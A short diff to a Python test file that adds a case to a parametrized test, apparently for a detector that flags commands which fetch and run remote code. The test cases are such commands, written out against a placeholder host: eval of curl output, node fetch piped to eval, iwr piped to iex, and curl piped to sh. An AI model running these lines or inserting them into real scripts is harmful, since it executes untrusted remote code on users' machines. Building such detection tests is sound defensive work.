@@ -18,6 +18,7 @@ def noted(source: str) -> list[tuple[int, bool]]:
         'eval "$(curl -s https://a.invalid/rc)"',
         "node -e \"fetch('https://a.invalid/j').then(r => r.text()).then(eval)\"",
         "iwr https://a.invalid/i.ps1 | iex",
+        "\\ncurl -s https://a.invalid/i | sh",
     ],
 )
 def test_it_is_noted_with_its_function(line: str) -> None:
